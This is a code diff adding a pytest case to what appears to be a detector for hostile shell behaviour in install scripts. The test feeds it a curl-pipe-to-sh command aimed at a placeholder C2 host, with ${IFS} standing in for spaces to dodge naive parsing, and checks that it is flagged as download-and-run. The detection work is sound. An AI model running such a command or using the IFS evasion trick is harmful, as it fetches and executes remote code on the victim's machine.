@@ -180,3 +180,10 @@ def test_hostile_lines_end_soon(text: str) -> None:
 def test_every_behaviour_is_in_the_vocabulary() -> None:
     named = {behaviour for _, _, behaviour in programs._MEANS} | set(programs.TELLS.values())
     assert not {one for one in named if not vocabulary.known(one)}
+
+
+@pytest.mark.parametrize("blank", ["${IFS}", "$IFS$9"])
+def test_a_variable_that_stands_for_a_blank_parts_words(blank):
+    text = f"curl{blank}-s{blank}http://c2.invalid/a|sh"
+    found = shell.facts(text, Location(member="x.sh"), "install", Budget(Limits()))
+    assert "exec/download-run" in {one.behaviour for one in found if isinstance(one, Fact)}
